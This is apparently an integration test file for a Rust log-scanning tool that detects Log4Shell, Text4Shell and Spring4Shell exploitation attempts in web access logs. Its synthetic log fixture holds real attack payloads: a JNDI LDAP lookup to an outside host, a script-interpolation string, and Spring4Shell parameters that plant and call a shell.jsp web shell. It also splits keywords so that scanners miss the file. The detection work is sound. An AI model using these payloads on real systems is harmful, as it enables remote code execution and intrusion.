//! `quell hunt` on the command line with the three vulnerabilities: every attempt names its CVE,
//! the summary counts per CVE, `--only` selects (and refuses unknown names), exit codes, and the
//! help shows the examples.
//!
//! Payload keywords are assembled at run time (`concat!`) so that no scanner flags this file.

use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

const JNDI: &str = concat!("jn", "di");
const SCRIPT: &str = concat!("scr", "ipt");
const P: &str = "class.module.classLoader.resources.context.parent.pipeline.first";

fn quell(args: &[&str], log: &Path) -> Output {
    Command::new(env!("CARGO_BIN_EXE_quell")).args(args).arg(log).output().expect("quell runs")
}

fn write_log(dir: &Path) -> std::path::PathBuf {
    let access = |ip: &str, uri: &str| {
        format!("{ip} - - [31/Mar/2022:10:00:00 +0000] \"GET {uri} HTTP/1.1\" 200 1 \"-\" \"curl/7.79\"\n")
    };
    let log = [
        access("203.0.113.1", &format!("/?x=%24%7B{JNDI}%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D")),
        access("203.0.113.2", &format!("/?q=%24%7B{SCRIPT}%3Ajavascript%3A1%2B1%7D")),
        access("203.0.113.3", &format!("/?{P}.suffix=.jsp&{P}.prefix=shell")),
        access("203.0.113.3", "/shell.jsp?cmd=id"),
        access("203.0.113.4", "/?cfg=${env:HOME:-/home/app}&t=${user.name}"),
    ]
    .concat();
    let path = dir.join("access.log");
    std::fs::write(&path, log).expect("write log");
    path
}

fn records(out: &Output) -> Vec<Value> {
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{l}: {e}")))
        .collect()
}

#[test]
fn attempts_name_their_vulnerability_and_only_selects() {
    let dir = tempfile::tempdir().expect("temp dir");
    let log = write_log(dir.path());
    let out = quell(&["hunt", "--format", "json"], &log);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    let recs = records(&out);
    let vulns: Vec<&str> = recs
        .iter()
        .filter(|r| r["kind"] == "attempt")
        .map(|r| r["vulnerability"].as_str().expect("vulnerability"))
        .collect();
    assert_eq!(vulns, ["CVE-2021-44228", "CVE-2022-42889", "CVE-2022-22965", "CVE-2022-22965"]);
    let summary = recs.iter().find(|r| r["kind"] == "summary").expect("summary");
    assert_eq!(summary["by_vulnerability"]["CVE-2022-22965"], 2);
    assert_eq!(summary["by_vulnerability"]["CVE-2021-44228"], 1);
    let script = recs.iter().find(|r| r["vulnerability"] == "CVE-2022-42889").expect("text4shell");
    assert_eq!(script["text4shell"]["scripts"][0]["code"], "1+1");
    assert_eq!(script["text4shell"]["could_work"]["1.10.0"], "no");
    let shell = recs.iter().rfind(|r| r["vulnerability"] == "CVE-2022-22965").expect("webshell");
    assert_eq!(shell["spring4shell"]["stage"], "webshell");
    assert_eq!(shell["spring4shell"]["written_file"], "shell.jsp");

    let out = quell(&["hunt", "--format", "json", "--only", "CVE-2022-42889"], &log);
    assert_eq!(out.status.code(), Some(1));
    let only: Vec<Value> = records(&out).into_iter().filter(|r| r["kind"] == "attempt").collect();
    assert_eq!(only.len(), 1);
    assert_eq!(only[0]["vulnerability"], "CVE-2022-42889");

    // Nothing of the selected kind: exit 0.
    let clean = dir.path().join("clean.log");
    std::fs::write(&clean, format!("GET /?q=${{{SCRIPT}:js:1}}\n")).expect("write");
    let out = quell(&["hunt", "--quiet", "--only", "log4shell,spring4shell"], &clean);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stdout));

    let out = quell(&["hunt", "--only", "heartbleed"], &log);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("unknown vulnerability"));
}

#[test]
fn summary_lists_indicators_with_their_vulnerabilities() {
    let dir = tempfile::tempdir().expect("temp dir");
    let log = write_log(dir.path());
    let out = quell(&["hunt", "--format", "json", "--summary"], &log);
    let recs = records(&out);
    let written = recs
        .iter()
        .find(|r| r["kind"] == "indicator" && r["indicator"] == "written_file")
        .expect("written_file indicator");
    assert_eq!(written["value"], "shell.jsp");
    assert_eq!(written["vulnerabilities"][0], "CVE-2022-22965");
    assert!(recs.iter().any(|r| r["indicator"] == "script" && r["value"] == "javascript:1+1"));
}

#[test]
fn help_shows_the_vulnerabilities_and_examples() {
    let out = Command::new(env!("CARGO_BIN_EXE_quell")).args(["hunt", "--help"]).output().expect("quell runs");
    let help = String::from_utf8_lossy(&out.stdout);
    for want in
        ["--only text4shell", "CVE-2022-22965", "CVE-2022-42889", "by_vulnerability", "quell hunt /var/log/nginx"]
    {
        assert!(help.contains(want), "help lacks {want:?}");
    }
}
